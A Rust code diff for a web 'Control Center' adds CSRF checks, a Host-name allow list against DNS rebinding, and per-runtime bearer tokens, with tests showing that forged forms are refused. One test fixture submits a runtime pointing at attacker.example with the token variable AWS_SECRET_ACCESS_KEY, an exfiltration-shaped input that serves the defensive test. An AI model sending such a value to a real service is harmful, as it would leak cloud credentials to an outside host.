@@ -7,7 +7,7 @@ use std::path::PathBuf;
 use std::sync::Arc;
 use std::time::Duration;
 
-use axum::extract::{Form, Path, Query, Request, State};
+use axum::extract::{Extension, Form, Path, Query, Request, State};
 use axum::http::{HeaderMap, StatusCode, header};
 use axum::middleware::Next;
 use axum::response::{Html, IntoResponse, Redirect, Response};
@@ -18,10 +18,11 @@ use serde::Deserialize;
 use serde_json::json;
 
 use crate::config::RuntimeConfig;
+use crate::csrf::Token;
 use crate::login::{COOKIE, Login, session_of};
 use crate::pages::layout::{BASE, Shape, crumb, here, page};
 use crate::pages::{components, crd, dashboard};
-use crate::runtimes::Runtimes;
+use crate::runtimes::{Runtimes, Tokens};
 
 /// How the Control Center runs.
 pub struct Options {
@@ -29,9 +30,13 @@ pub struct Options {
     pub runtimes: Vec<RuntimeConfig>,
     /// Where added and removed runtimes are kept.
     pub config_file: Option<PathBuf>,
-    /// The token of runtimes whose config names no variable of their own.
-    pub runtime_token: Option<String>,
+    /// Which bearer token goes to which runtime.
+    pub tokens: Tokens,
     pub login: Login,
+    /// Host names it answers to besides loopback ones, where it has no login (a browser
+    /// could otherwise reach it under an attacker's name); with a login, when given, only
+    /// these and loopback names.
+    pub hosts: Vec<String>,
     /// How often every runtime is asked.
     pub poll: Duration,
 }
@@ -58,20 +63,37 @@ struct Shared {
 /// How long a wrong password holds the line.
 const REFUSAL_PAUSE: Duration = Duration::from_secs(1);
 
-/// Serves the Control Center until the process ends (or `shutdown` resolves). Returns the
-/// address it listens on once it does.
-pub async fn serve(
-    options: Options,
-    shutdown: impl std::future::Future<Output = ()> + Send + 'static,
-) -> Result<(), Error> {
-    let (listener, router, poller) = bind(options).await?;
-    let result = axum::serve(listener, router).with_graceful_shutdown(shutdown).await;
-    poller.abort();
-    result.map_err(|e| Error::Listen(SocketAddr::from(([0, 0, 0, 0], 0)), e))
+/// Serves the Control Center until `shutdown` resolves.
+pub async fn serve(options: Options, shutdown: impl std::future::Future<Output = ()>) -> Result<(), Error> {
+    bind(options).await?.serve(shutdown).await
+}
+
+/// The Control Center bound to its address, its poller running, not serving yet.
+pub struct Bound {
+    listener: tokio::net::TcpListener,
+    router: Router,
+    door: orkestra_net::Door,
+    poller: tokio::task::JoinHandle<()>,
+}
+
+impl Bound {
+    pub fn local_addr(&self) -> std::io::Result<SocketAddr> {
+        self.listener.local_addr()
+    }
+
+    /// Serves through the doors' one server setup until `shutdown` resolves.
+    pub async fn serve(self, shutdown: impl std::future::Future<Output = ()>) -> Result<(), Error> {
+        let addr = self
+            .local_addr()
+            .map_err(|e| Error::Listen(SocketAddr::from(([0, 0, 0, 0], 0)), e))?;
+        let result = orkestra_net::serve(self.listener, self.router, self.door, shutdown).await;
+        self.poller.abort();
+        result.map_err(|e| Error::Listen(addr, e))
+    }
 }
 
 /// Binds and builds everything; the poller runs in the background.
-pub async fn bind(options: Options) -> Result<(tokio::net::TcpListener, Router, tokio::task::JoinHandle<()>), Error> {
+pub async fn bind(options: Options) -> Result<Bound, Error> {
     if !options.login.required() && !options.addr.ip().is_loopback() {
         return Err(Error::OpenBeyondLoopback(options.addr));
     }
@@ -83,17 +105,27 @@ pub async fn bind(options: Options) -> Result<(tokio::net::TcpListener, Router, 
             }
         }
     }
-    let runtimes = Arc::new(Runtimes::new(configs, options.config_file, options.runtime_token)?);
-    let poller = tokio::spawn(runtimes.clone().poll(options.poll));
+    let runtimes = Arc::new(Runtimes::new(configs, options.config_file, options.tokens)?);
     let listener = tokio::net::TcpListener::bind(options.addr)
         .await
         .map_err(|e| Error::Listen(options.addr, e))?;
+    let poller = tokio::spawn(runtimes.clone().poll(options.poll));
+    // Without a login, a browser must reach it by a name it was given: no rebinding.
+    let hosts = match (options.login.required(), options.hosts.is_empty()) {
+        (true, true) => None,
+        _ => Some(orkestra_net::Hosts::loopback().with(options.hosts)),
+    };
     let shared = Shared {
         runtimes,
         login: Arc::new(options.login),
         refusals: Arc::default(),
     };
-    Ok((listener, router(shared), poller))
+    Ok(Bound {
+        listener,
+        router: router(shared),
+        door: orkestra_net::Door::new("Control Center").hosts(hosts),
+        poller,
+    })
 }
 
 fn router(shared: Shared) -> Router {
@@ -117,6 +149,7 @@ fn router(shared: Shared) -> Router {
         .route(&at("/app.js"), get(script))
         .route(BASE, get(home))
         .route("/", get(home))
+        .layer(axum::middleware::from_fn(crate::csrf::protect))
         .layer(axum::middleware::from_fn(security_headers))
         .with_state(shared)
 }
@@ -140,8 +173,7 @@ async fn security_headers(request: Request, next: Next) -> Response {
 }
 
 async fn require_session(State(shared): State<Shared>, request: Request, next: Next) -> Response {
-    let cookies = request.headers().get(header::COOKIE).and_then(|v| v.to_str().ok());
-    if shared.login.admits(cookies) {
+    if shared.login.admits(request.headers()) {
         return next.run(request).await;
     }
     if request.uri().query().is_some_and(|q| q.contains("fragment=1")) {
@@ -167,15 +199,17 @@ impl PageQuery {
 
 fn answer(
     shared: &Shared,
+    token: &Token,
     title: &str,
     crumbs: &[crate::pages::layout::Crumb],
     content: Markup,
     shape: Shape,
 ) -> Response {
-    Html(page(title, crumbs, content, shape, true, shared.login.required()).into_string()).into_response()
+    let signed_in = shared.login.required().then_some(token);
+    Html(page(title, crumbs, content, shape, true, signed_in).into_string()).into_response()
 }
 
-fn unknown_runtime(shared: &Shared, name: &str) -> Response {
+fn unknown_runtime(shared: &Shared, token: &Token, name: &str) -> Response {
     let content = crate::pages::layout::notice(&format!("No runtime named {name:?} is watched."));
     let html = page(
         "Not found",
@@ -183,35 +217,55 @@ fn unknown_runtime(shared: &Shared, name: &str) -> Response {
         content,
         Shape::Page,
         false,
-        shared.login.required(),
+        shared.login.required().then_some(token),
     );
     (StatusCode::NOT_FOUND, Html(html.into_string())).into_response()
 }
 
-async fn dashboard_page(State(shared): State<Shared>, Query(query): Query<PageQuery>) -> Response {
+async fn dashboard_page(
+    State(shared): State<Shared>,
+    Extension(token): Extension<Token>,
+    Query(query): Query<PageQuery>,
+) -> Response {
     let content = dashboard::dashboard(&shared.runtimes);
-    answer(&shared, "Dashboard", &[here("Dashboard")], content, query.shape())
+    answer(
+        &shared,
+        &token,
+        "Dashboard",
+        &[here("Dashboard")],
+        content,
+        query.shape(),
+    )
 }
 
 async fn katalog_page(
     State(shared): State<Shared>,
+    Extension(token): Extension<Token>,
     Path(rt): Path<String>,
     Query(query): Query<PageQuery>,
 ) -> Response {
     let Some(runtime) = shared.runtimes.get(&rt) else {
-        return unknown_runtime(&shared, &rt);
+        return unknown_runtime(&shared, &token, &rt);
     };
     let crumbs = [crumb("Dashboard", format!("{BASE}/")), here(&rt)];
-    answer(&shared, &rt, &crumbs, dashboard::katalog_panel(&runtime), query.shape())
+    answer(
+        &shared,
+        &token,
+        &rt,
+        &crumbs,
+        dashboard::katalog_panel(&runtime),
+        query.shape(),
+    )
 }
 
 async fn components_page(
     State(shared): State<Shared>,
+    Extension(token): Extension<Token>,
     Path(rt): Path<String>,
     Query(query): Query<PageQuery>,
 ) -> Response {
     let Some(runtime) = shared.runtimes.get(&rt) else {
-        return unknown_runtime(&shared, &rt);
+        return unknown_runtime(&shared, &token, &rt);
     };
     let crumbs = [
         crumb("Dashboard", format!("{BASE}/")),
@@ -220,6 +274,7 @@ async fn components_page(
     ];
     answer(
         &shared,
+        &token,
         "Components",
         &crumbs,
         components::components(&runtime),
@@ -229,11 +284,12 @@ async fn components_page(
 
 async fn crd_page(
     State(shared): State<Shared>,
+    Extension(token): Extension<Token>,
     Path((rt, name)): Path<(String, String)>,
     Query(query): Query<PageQuery>,
 ) -> Response {
     let Some(runtime) = shared.runtimes.get(&rt) else {
-        return unknown_runtime(&shared, &rt);
+        return unknown_runtime(&shared, &token, &rt);
     };
     let content = crd::crd(&shared.runtimes, &runtime, &name).await;
     let crumbs = [
@@ -241,16 +297,17 @@ async fn crd_page(
         crumb(&rt, format!("{BASE}/r/{rt}")),
         here(&name),
     ];
-    answer(&shared, &name, &crumbs, content, query.shape())
+    answer(&shared, &token, &name, &crumbs, content, query.shape())
 }
 
 async fn cr_list_page(
     State(shared): State<Shared>,
+    Extension(token): Extension<Token>,
     Path((rt, name)): Path<(String, String)>,
     Query(query): Query<PageQuery>,
 ) -> Response {
     let Some(runtime) = shared.runtimes.get(&rt) else {
-        return unknown_runtime(&shared, &rt);
+        return unknown_runtime(&shared, &token, &rt);
     };
     let content = crd::cr_list(&shared.runtimes, &runtime, &name).await;
     let crumbs = [
@@ -259,16 +316,17 @@ async fn cr_list_page(
         crumb(&name, format!("{BASE}/r/{rt}/crd/{name}")),
         here("custom resources"),
     ];
-    answer(&shared, &name, &crumbs, content, query.shape())
+    answer(&shared, &token, &name, &crumbs, content, query.shape())
 }
 
 async fn cr_page(
     State(shared): State<Shared>,
+    Extension(token): Extension<Token>,
     Path((rt, name, ns, cr)): Path<(String, String, String, String)>,
     Query(query): Query<PageQuery>,
 ) -> Response {
     let Some(runtime) = shared.runtimes.get(&rt) else {
-        return unknown_runtime(&shared, &rt);
+        return unknown_runtime(&shared, &token, &rt);
     };
     let content = crd::cr(&shared.runtimes, &runtime, &name, &ns, &cr).await;
     let crumbs = [
@@ -278,22 +336,22 @@ async fn cr_page(
         crumb("custom resources", format!("{BASE}/r/{rt}/crd/{name}/cr")),
         here(&cr),
     ];
-    answer(&shared, &cr, &crumbs, content, query.shape())
+    answer(&shared, &token, &cr, &crumbs, content, query.shape())
 }
 
-async fn manager_page(State(shared): State<Shared>) -> Response {
-    manager(&shared, None, StatusCode::OK)
+async fn manager_page(State(shared): State<Shared>, Extension(token): Extension<Token>) -> Response {
+    manager(&shared, &token, None, StatusCode::OK)
 }
 
-fn manager(shared: &Shared, error: Option<&str>, status: StatusCode) -> Response {
-    let content = components::manager(&shared.runtimes, error);
+fn manager(shared: &Shared, token: &Token, error: Option<&str>, status: StatusCode) -> Response {
+    let content = components::manager(&shared.runtimes, error, token);
     let html = page(
         "Runtimes",
         &[crumb("Dashboard", format!("{BASE}/")), here("Runtimes")],
         content,
         Shape::Page,
         false,
-        shared.login.required(),
+        shared.login.required().then_some(token),
     );
     (status, Html(html.into_string())).into_response()
 }
@@ -308,7 +366,11 @@ struct AddRuntime {
     token_env: String,
 }
 
-async fn add_runtime(State(shared): State<Shared>, Form(form): Form<AddRuntime>) -> Response {
+async fn add_runtime(
+    State(shared): State<Shared>,
+    Extension(token): Extension<Token>,
+    Form(form): Form<AddRuntime>,
+) -> Response {
     let token_env = Some(form.token_env.trim().to_string()).filter(|v| !v.is_empty());
     let added = match RuntimeConfig::new(&form.url, Some(&form.name), token_env) {
         Ok(config) => shared.runtimes.add(config).await,
@@ -316,14 +378,23 @@ async fn add_runtime(State(shared): State<Shared>, Form(form): Form<AddRuntime>)
     };
     match added {
         Ok(()) => Redirect::to(&format!("{BASE}/runtimes")).into_response(),
-        Err(error) => manager(&shared, Some(&error.to_string()), StatusCode::UNPROCESSABLE_ENTITY),
+        Err(error) => manager(
+            &shared,
+            &token,
+            Some(&error.to_string()),
+            StatusCode::UNPROCESSABLE_ENTITY,
+        ),
     }
 }
 
-async fn remove_runtime(State(shared): State<Shared>, Path(name): Path<String>) -> Response {
+async fn remove_runtime(
+    State(shared): State<Shared>,
+    Extension(token): Extension<Token>,
+    Path(name): Path<String>,
+) -> Response {
     match shared.runtimes.remove(&name) {
         Ok(()) => Redirect::to(&format!("{BASE}/runtimes")).into_response(),
-        Err(error) => manager(&shared, Some(&error.to_string()), StatusCode::NOT_FOUND),
+        Err(error) => manager(&shared, &token, Some(&error.to_string()), StatusCode::NOT_FOUND),
     }
 }
 
@@ -343,17 +414,17 @@ async fn api_runtimes(State(shared): State<Shared>) -> Json<serde_json::Value> {
     Json(json!({ "runtimes": runtimes }))
 }
 
-async fn sign_in_page(State(shared): State<Shared>) -> Response {
+async fn sign_in_page(State(shared): State<Shared>, Extension(token): Extension<Token>) -> Response {
     if !shared.login.required() {
         return Redirect::to(&format!("{BASE}/")).into_response();
     }
     let html = page(
         "Sign in",
         &[here("Sign in")],
-        components::sign_in(false),
+        components::sign_in(false, &token),
         Shape::Page,
         false,
-        false,
+        None,
     );
     Html(html.into_string()).into_response()
 }
@@ -366,7 +437,11 @@ struct Credentials {
     password: String,
 }
 
-async fn sign_in(State(shared): State<Shared>, Form(form): Form<Credentials>) -> Response {
+async fn sign_in(
+    State(shared): State<Shared>,
+    Extension(token): Extension<Token>,
+    Form(form): Form<Credentials>,
+) -> Response {
     match shared.login.sign_in(&form.user, &form.password) {
         Some(token) => {
             let cookie = format!("{COOKIE}={token}; Path={BASE}; HttpOnly; SameSite=Strict; Max-Age=43200");
@@ -379,10 +454,10 @@ async fn sign_in(State(shared): State<Shared>, Form(form): Form<Credentials>) ->
             let html = page(
                 "Sign in",
                 &[here("Sign in")],
-                components::sign_in(true),
+                components::sign_in(true, &token),
                 Shape::Page,
                 false,
-                false,
+                None,
             );
             (StatusCode::UNAUTHORIZED, Html(html.into_string())).into_response()
         }
@@ -390,7 +465,7 @@ async fn sign_in(State(shared): State<Shared>, Form(form): Form<Credentials>) ->
 }
 
 async fn sign_out(State(shared): State<Shared>, headers: HeaderMap) -> Response {
-    if let Some(token) = session_of(headers.get(header::COOKIE).and_then(|v| v.to_str().ok())) {
+    if let Some(token) = session_of(&headers) {
         shared.login.sign_out(token);
     }
     let expired = format!("{COOKIE}=; Path={BASE}; HttpOnly; SameSite=Strict; Max-Age=0");
@@ -413,7 +488,7 @@ mod tests {
     use super::*;
 
     fn app() -> Router {
-        let runtimes = Runtimes::new(Vec::new(), None, None).unwrap();
+        let runtimes = Runtimes::new(Vec::new(), None, Tokens::default()).unwrap();
         router(Shared {
             runtimes: Arc::new(runtimes),
             login: Arc::new(Login::password("right".into())),
@@ -421,11 +496,31 @@ mod tests {
         })
     }
 
-    async fn sign_in_with(app: Router, password: &str) -> StatusCode {
-        let request = Request::post(format!("{BASE}/login"))
+    const TOKEN: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
+
+    /// A form POST as a page of the Control Center sends it: its Origin, the CSRF cookie
+    /// and field (`token`: the field; `None` leaves it out).
+    fn form(path: &str, origin: &str, token: Option<&str>, fields: &str) -> Request {
+        let body = match token {
+            Some(token) => format!("{fields}&csrf={token}"),
+            None => fields.to_string(),
+        };
+        Request::post(format!("{BASE}{path}"))
+            .header(header::HOST, "cc.local:8081")
+            .header(header::ORIGIN, origin)
+            .header(header::COOKIE, format!("{}={TOKEN}", crate::csrf::COOKIE))
             .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
-            .body(Body::from(format!("user=admin&password={password}")))
-            .unwrap();
+            .body(Body::from(body))
+            .unwrap()
+    }
+
+    async fn sign_in_with(app: Router, password: &str) -> StatusCode {
+        let request = form(
+            "/login",
+            "http://cc.local:8081",
+            Some(TOKEN),
+            &format!("user=admin&password={password}"),
+        );
         app.oneshot(request).await.unwrap().status()
     }
 
@@ -444,6 +539,49 @@ mod tests {
         let started = tokio::time::Instant::now();
         assert_eq!(sign_in_with(app, "right").await, StatusCode::SEE_OTHER);
         assert!(started.elapsed() < REFUSAL_PAUSE);
+    }
+
+    #[tokio::test]
+    async fn a_form_from_another_site_or_without_the_token_changes_nothing() {
+        let runtimes = Arc::new(Runtimes::new(Vec::new(), None, Tokens::default()).unwrap());
+        let app = router(Shared {
+            runtimes: runtimes.clone(),
+            login: Arc::new(Login::none()),
+            refusals: Arc::default(),
+        });
+        let add = "url=http://attacker.example:8080&name=evil&tokenEnv=AWS_SECRET_ACCESS_KEY";
+        for (origin, token) in [
+            ("http://attacker.example", Some(TOKEN)),
+            ("http://cc.local:8081", None),
+            (
+                "http://cc.local:8081",
+                Some("ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff"),
+            ),
+        ] {
+            let response = app
+                .clone()
+                .oneshot(form("/runtimes", origin, token, add))
+                .await
+                .unwrap();
+            assert_eq!(response.status(), StatusCode::FORBIDDEN, "{origin} {token:?}");
+        }
+        assert!(runtimes.all().is_empty(), "nothing was added");
+        // The page's own form gets in, but may name no variable the operator did not allow.
+        let response = app
+            .clone()
+            .oneshot(form("/runtimes", "http://cc.local:8081", Some(TOKEN), add))
+            .await
+            .unwrap();
+        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
+        let page = axum::body::to_bytes(response.into_body(), 1 << 20).await.unwrap();
+        assert!(String::from_utf8_lossy(&page).contains("--allow-token-env"));
+        let plain = "url=http://127.0.0.1:9&name=spare";
+        let response = app
+            .oneshot(form("/runtimes", "http://cc.local:8081", Some(TOKEN), plain))
+            .await
+            .unwrap();
+        assert_eq!(response.status(), StatusCode::SEE_OTHER);
+        assert_eq!(runtimes.all().len(), 1);
     }
 
     #[tokio::test]
